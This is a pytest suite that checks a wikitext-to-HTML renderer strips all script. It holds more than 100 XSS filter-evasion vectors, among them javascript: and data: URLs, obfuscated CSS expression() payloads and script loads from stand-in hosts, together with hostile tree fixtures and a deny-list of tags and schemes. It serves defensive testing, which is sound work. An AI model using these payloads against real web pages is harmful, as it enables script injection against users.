"""No script can get through the HTML renderer.

Every vector is rendered (from wikitext, and where it matters from a
hand-built tree that bypasses the parser) and the output is parsed with
html5lib, a real HTML5 parser; the checks run on the parsed DOM, never on
the string.
"""

from __future__ import annotations

import html
import re
import unicodedata
from typing import Any

import pytest

html5lib = pytest.importorskip("html5lib")

import wikikit.html as wh  # noqa: E402
from wikikit.tree import (  # noqa: E402
    Document,
    ExtensionTag,
    ExternalLink,
    HtmlTag,
    Inline,
    Paragraph,
    Parameter,
    Table,
    TableCell,
    TableRow,
    Template,
    Text,
    WikiLink,
)

FORBIDDEN_TAGS = frozenset(
    [
        "script",
        "style",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "base",
        "link",
        "meta",
        "form",
        "input",
        "button",
        "textarea",
        "select",
        "option",
        "svg",
        "math",
        "img",
        "image",
        "video",
        "audio",
        "source",
        "track",
        "isindex",
        "xml",
        "xmp",
        "plaintext",
        "noscript",
        "template",
        "portal",
    ]
)
URL_ATTRS = frozenset(
    [
        "href",
        "src",
        "action",
        "formaction",
        "xlink:href",
        "data",
        "poster",
        "background",
        "lowsrc",
        "dynsrc",
        "cite",
        "codebase",
        "longdesc",
        "profile",
        "usemap",
        "manifest",
        "itemtype",
        "itemid",
        "srcset",
        "ping",
    ]
)
BAD_SCHEME_RE = re.compile(r"^(?:javascript|vbscript|data|livescript|mocha):", re.I)
BAD_CSS_RE = re.compile(
    r"expression|url\s*\(|javascript|vbscript|behavior|-moz-binding|@import|image\s*\(", re.I
)
_CSS_ESC = re.compile(r"\\([0-9a-fA-F]{1,6})\s?|\\(.)")


def _css_decoded(value: str) -> str:
    value = html.unescape(value)
    value = _CSS_ESC.sub(lambda m: chr(int(m.group(1), 16)) if m.group(1) else m.group(2), value)
    value = re.sub(r"/\*.*?(\*/|$)", "", value, flags=re.S)
    return unicodedata.normalize("NFKC", value)


def assert_safe(markup: str) -> None:
    """Parse ``markup`` as a browser would and look for anything that runs script."""
    frag = html5lib.parseFragment(
        markup, container="div", treebuilder="etree", namespaceHTMLElements=False
    )
    stack: list[Any] = [frag]
    while stack:
        el = stack.pop()
        stack.extend(list(el))
        tag = el.tag if isinstance(el.tag, str) else ""
        local = tag.rsplit("}", 1)[-1].lower()
        assert local not in FORBIDDEN_TAGS, f"<{local}> in output: {markup!r}"
        for name, value in el.attrib.items():
            lname = name.rsplit("}", 1)[-1].lower()
            assert not lname.startswith("on"), f"event handler {name}: {markup!r}"
            assert lname not in ("srcdoc", "formaction"), f"{name}: {markup!r}"
            compact = re.sub(r"[\x00-\x20\x7f]+", "", html.unescape(value))
            if lname in URL_ATTRS:
                assert not BAD_SCHEME_RE.match(compact), f"{name}={value!r}: {markup!r}"
            if lname == "style":
                assert not BAD_CSS_RE.search(_css_decoded(value)), f"style={value!r}"


# At least 100 vectors, in wikitext. Many are classic filter-evasion strings
# (OWASP XSS Filter Evasion Cheat Sheet, html5sec.org) recast for wikitext.
VECTORS: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<script/xss src=http://xss.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "</script><script>alert(1)</script>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<body onload=alert(1)>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="javascript:alert(1)">x</a>',
    "<span onmouseover=alert(1)>x</span>",
    '<span onmouseover="alert(1)">x</span>',
    "<span ONMOUSEOVER=alert(1)>x</span>",
    "<span on\nmouseover=alert(1)>x</span>",
    "<span/onmouseover=alert(1)>x</span>",
    "<div onclick=alert(1)>x</div>",
    '<div style="x:expression(alert(1))">x</div>',
    "<div style=\"width: expression(alert('XSS'));\">x</div>",
    '<div style="x:ex/**/pression(alert(1))">x</div>',
    '<div style="x:\\65 xpression(alert(1))">x</div>',
    '<div style="x:e\\78pression(alert(1))">x</div>',
    '<div style="x:&#101;xpression(alert(1))">x</div>',
    '<div style="x:&#x65;xpression(alert(1))">x</div>',
    '<div style="x:ｅｘｐｒｅｓｓｉｏｎ(alert(1))">x</div>',
    '<div style="x:eˣpression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    '<div style="background:u\\72l(javascript:alert(1))">x</div>',
    '<div style="background:url&#40;javascript:alert(1)&#41;">x</div>',
    '<div style="background-image:image(javascript:alert(1))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(http://xss.example/x.xml#xss)">x</div>',
    '<div style="x:\\0065xpression(alert(1))">x</div>',
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style=width:expression(alert(1))>x</div>",
    '<span style="x:/*" title="*/expression(alert(1))">x</span>',
    "<p style=\"@import 'http://xss.example/a.css'\">x</p>",
    '<table style="background:url(javascript:alert(1))"><tr><td>x</td></tr></table>',
    '<td background="javascript:alert(1)">x</td>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "<q cite=javascript:alert(1)>x</q>",
    '<del cite="javascript:alert(1)">x</del>',
    '<span itemtype="javascript:alert(1)" itemscope>x</span>',
    '<span data-x="1" onclick="alert(1)">x</span>',
    '<span xmlns:x="javascript:alert(1)">x</span>',
    '<font face="x" onmouseover="alert(1)">x</font>',
    "<br onload=alert(1)>",
    "<hr onmouseover=alert(1)>",
    "<li onclick=alert(1)>x</li>",
    '<span title=""><script>alert(1)</script>">x</span>',
    "<span title='a' onclick='alert(1)'>x</span>",
    '<span class="x" "onclick=alert(1)">x</span>',
    "[javascript:alert(1) click]",
    "[javascript:alert(1)]",
    "[vbscript:msgbox(1) x]",
    "[data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== x]",
    '[http://example.com" onmouseover="alert(1) x]',
    "[http://example.com/<script>alert(1)</script> x]",
    'http://example.com/"onmouseover="alert(1)',
    "http://example.com/<script>alert(1)</script>",
    "[[javascript:alert(1)]]",
    "[[javascript:alert(1)|click]]",
    '[[Foo" onclick="alert(1)]]',
    "[[Foo|<script>alert(1)</script>]]",
    "[[Foo|<span onclick=alert(1)>x</span>]]",
    "[[<script>alert(1)</script>]]",
    "'''<script>alert(1)</script>'''",
    "''<img src=x onerror=alert(1)>''",
    "== <script>alert(1)</script> ==",
    "== <span onclick=alert(1)>x</span> ==",
    "* <script>alert(1)</script>",
    "# <iframe src=javascript:alert(1)>",
    "; <svg onload=alert(1)> : x",
    " <script>alert(1)</script>",
    "<pre><script>alert(1)</script></pre>",
    "<pre onclick=alert(1)>x</pre>",
    "<nowiki><script>alert(1)</script></nowiki>",
    "<nowiki>&lt;script&gt;alert(1)&lt;/script&gt;</nowiki>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{| onclick=alert(1)\n| x\n|}",
    '{| style="background:url(javascript:alert(1))"\n|x\n|}',
    "{|\n|- onmouseover=alert(1)\n| x\n|}",
    "{|\n| onclick=alert(1) | x\n|}",
    '{|\n! style="x:expression(alert(1))" | x\n|}',
    "{|\n|+ onclick=alert(1) | cap\n| x\n|}",
    "{|\n|<script>alert(1)</script>\n|}",
    "<ref><script>alert(1)</script></ref>\n<references/>",
    '<ref name="x" onclick="alert(1)">[javascript:alert(1) x]</ref>',
    "{{Infobox x\n| name = <script>alert(1)</script>\n| a = [javascript:alert(1) b]\n}}",
    "{{foo|<script>alert(1)</script>}}",
    '{{" onclick=alert(1) "}}',
    "<!--<script>alert(1)</script>-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<poem><script>alert(1)</script></poem>",
    "<math><script>alert(1)</script></math>",
    "<syntaxhighlight><script>alert(1)</script></syntaxhighlight>",
    "<gallery>\nFile:x.jpg|<script>alert(1)</script>\n</gallery>",
    "[[File:X.jpg|<script>alert(1)</script>]]",
    "[[File:X.jpg|link=javascript:alert(1)]]",
    '<span id="x" style="x:expr/**/ession(alert(1))">a</span>',
    '<div style="xss:ex\\0070ression(alert(1))">x</div>',
    '<div style="color: red; background: URL(javascript:alert(1))">x</div>',
    '<div style="background:url (javascript:alert(1))">x</div>',
    '<div style="background:\\75 rl(javascript:alert(1))">x</div>',
    '<div style="width:exp&#x0072;ession(alert(1))">x</div>',
    '<div style="list-style-image:url(&quot;javascript:alert(1)&quot;)">x</div>',
    '<div style="x:/**/expression(alert(1))">x</div>',
    '<div style="x:e&#92;78pression(alert(1))">x</div>',
    '<span lang="en" dir="ltr" onfocus="alert(1)" tabindex=1>x</span>',
    "<h2 onclick=alert(1)>x</h2>",
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    "<center onclick=alert(1)>x</center>",
    '<div class="a" id="b" onmouseenter="alert(1)">x</div>',
    '<abbr title="x" onpointerover=alert(1)>x</abbr>',
    "<b/onclick=alert(1)>x</b>",
    "<i\tonclick=alert(1)>x</i>",
    "<u\x0conclick=alert(1)>x</u>",
    "<kbd onclick\t=\talert(1)>x</kbd>",
]


def test_corpus_is_large_enough() -> None:
    assert len(VECTORS) >= 100
    assert len(set(VECTORS)) == len(VECTORS)


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_from_wikitext(vector: str) -> None:
    assert_safe(wh.to_html(vector))
    assert_safe(wh.to_html("Intro text.\n\n" + vector + "\n\nMore text."))


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_standalone_page(vector: str) -> None:
    page = wh.to_html(vector, standalone=True)
    body = page.split("<body>", 1)[1].rsplit("</body>", 1)[0]
    assert_safe(body)


def _doc(*inlines: Inline) -> Document:
    return Document("", None, (Paragraph(tuple(inlines), "\n"),), ())


# Trees a parser would never build, to prove the renderer does not trust its input.
HOSTILE_TREES: list[Document] = [
    _doc(HtmlTag.from_markup("<script>", (Text("alert(1)"),), "</script>")),
    _doc(HtmlTag.from_markup("<iframe src=javascript:alert(1)>", (), "</iframe>")),
    _doc(HtmlTag.from_markup("<span onclick=alert(1)>", (Text("x"),), "</span>")),
    _doc(HtmlTag.from_markup('<div style="x:expression(alert(1))">', (Text("x"),), "</div>")),
    _doc(HtmlTag.from_markup("<a href=javascript:alert(1)>", (Text("x"),), "</a>")),
    _doc(HtmlTag.from_markup("<img src=x onerror=alert(1)>", (), "")),
    _doc(HtmlTag.from_markup("<svg onload=alert(1)>", (), "</svg>")),
    _doc(HtmlTag.from_markup("<style>", (Text("*{x:expression(alert(1))}"),), "</style>")),
    _doc(ExternalLink("javascript:alert(1)", " ", (Text("x"),), True)),
    _doc(ExternalLink("JaVaScRiPt:alert(1)", "", None, True)),
    _doc(ExternalLink("java\nscript:alert(1)", "", None, False)),
    _doc(ExternalLink("data:text/html,<script>alert(1)</script>", " ", (Text("x"),))),
    _doc(ExternalLink("vbscript:x", "", None, False)),
    _doc(ExternalLink('http://x/" onclick="alert(1)', " ", (Text("x"),))),
    _doc(ExternalLink("&#106;avascript:alert(1)", " ", (Text("x"),))),
    _doc(WikiLink((Text("javascript:alert(1)"),), None, "")),
    _doc(WikiLink((Text('x" onclick="alert(1)'),), (Text("y"),), "")),
    _doc(WikiLink((Text("x"),), (HtmlTag.from_markup("<script>", (Text("1"),), "</script>"),), "")),
    _doc(Template((Text('"><script>alert(1)</script>'),), (Parameter(None, (Text("x"),)),))),
    _doc(Text("<script>alert(1)</script>")),
    _doc(Text("\x7f0\x7f<script>alert(1)</script>")),
    _doc(ExtensionTag.from_markup("<nowiki>", "<script>alert(1)</script>", "</nowiki>")),
    _doc(ExtensionTag.from_markup("<pre>", "</pre><script>alert(1)</script>", "</pre>")),
    _doc(
        ExtensionTag.from_markup('<pre style="x:expression(1)" onclick="alert(1)">', "x", "</pre>")
    ),
    _doc(ExtensionTag.from_markup("<script>", "alert(1)", "</script>")),
    _doc(ExtensionTag.from_markup("<ref>", "<script>alert(1)</script>", "</ref>")),
    Document(
        "",
        None,
        (
            Table(
                "{|",
                (Text(" onclick=alert(1)"),),
                "\n",
                (),
                (),
                (
                    TableRow(
                        "|-",
                        (Text(" onmouseover=alert(1)"),),
                        "\n",
                        (),
                        (
                            TableCell(
                                "|",
                                (Text(' style="x:expression(1)" onclick=alert(1) '),),
                                (Paragraph((Text("x"),), "\n"),),
                            ),
                        ),
                    ),
                ),
                "|}",
                (),
                "\n",
            ),
        ),
        (),
    ),
]


@pytest.mark.parametrize("doc", HOSTILE_TREES)
def test_hostile_tree(doc: Document) -> None:
    assert_safe(wh.to_html(doc))


def test_template_handler_wikitext_is_sanitized() -> None:
    def handler(name: str, params: dict[str, str]) -> str | None:
        return wh.Wikitext("<script>alert(1)</script><span onclick=alert(1)>x</span>")

    assert_safe(wh.to_html("{{x}}", template_handler=handler))


def test_checker_catches_script() -> None:
    # The checker itself must fail on unsafe markup.
    for bad in (
        "<script>alert(1)</script>",
        '<a href=" javascript:alert(1)">x</a>',
        '<span onclick="x">y</span>',
        '<div style="x:e\\78pression(1)">y</div>',
    ):
        with pytest.raises(AssertionError):
            assert_safe(bad)


# -- property test: any mix of markup and attack fragments stays safe ----------------

from hypothesis import given  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

FRAGMENTS = [
    "<",
    ">",
    "/",
    "=",
    '"',
    "'",
    " ",
    "\n",
    "|",
    "!",
    "{|",
    "|}",
    "|-",
    "||",
    "[[",
    "]]",
    "[",
    "]",
    "{{",
    "}}",
    "''",
    "'''",
    "*",
    "#",
    ":",
    ";",
    "==",
    "----",
    "&",
    "&#",
    ";",
    "&lt;",
    "&#106;",
    "&#x3A;",
    "\\",
    "/*",
    "*/",
    "(",
    ")",
    "<!--",
    "-->",
    "<nowiki>",
    "</nowiki>",
    "<pre>",
    "</pre>",
    "<ref>",
    "</ref>",
    "<references/>",
    "<span",
    "<div",
    "</div>",
    "<b>",
    "</span>",
    "<script>",
    "</script>",
    "<img",
    "<svg",
    "<iframe",
    "<a ",
    "<style>",
    " style=",
    " onclick=",
    " onerror=",
    " href=",
    " src=",
    "javascript:",
    "java\tscript:",
    "vbscript:",
    "data:text/html,",
    "expression(",
    "url(",
    "e\\78pression(",
    "alert(1)",
    "http://x.example/",
    "//x.example",
    "mailto:a@b",
    "Category:",
    "File:",
    " class=",
    " id=",
    " title=",
    "x",
    "Foo",
]


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join))
def test_random_markup_is_safe(source: str) -> None:
    assert_safe(wh.to_html(source))


@pytest.mark.parametrize("vector", VECTORS)
def test_template_handler_html_is_sanitized(vector: str) -> None:
    def handler(name: str, params: dict[str, str]) -> str | None:
        return f'<a href="/wiki/{params.get("1", "")}">{params.get("1", "")}</a>{vector}'

    assert_safe(wh.to_html("{{x|javascript:alert(1)}} {{x|y}}", template_handler=handler))


def test_handler_links_keep_safe_hrefs() -> None:
    from wikikit.html.sanitizer import sanitize_html

    assert sanitize_html('<a href="/wiki/X" onclick="y">X</a>') == '<a href="/wiki/X">X</a>'
    assert sanitize_html('<a href="https://e.org/">e</a>') == '<a href="https://e.org/">e</a>'
    assert sanitize_html('<a href="javascript:alert(1)">x</a>') == "<a>x</a>"
    assert sanitize_html("<script>x</script><b>ok</b>") == (
        "&lt;script&gt;x&lt;/script&gt;<b>ok</b>"
    )


def test_placeholders_cannot_be_forged() -> None:
    # U+007F delimits the renderer's strip markers; input must not be able to
    # name one inside an attribute (which would let stashed text break out).
    src = '<nowiki>" onmouseover="alert(1)</nowiki><span title="\x7f0\x7f">x</span>'
    assert_safe(wh.to_html(src))
    doc = _doc(
        ExtensionTag.from_markup("<nowiki>", '" onmouseover="alert(1)', "</nowiki>"),
        HtmlTag.from_markup('<span title="\x7f0\x7f">', (Text("x"),), "</span>"),
        HtmlTag.from_markup('<span title="\x7fC\x7f\x7fK\x7f">', (Text("y"),), "</span>"),
    )
    out = wh.to_html(doc)
    assert_safe(out)
    assert "\x7f" not in out
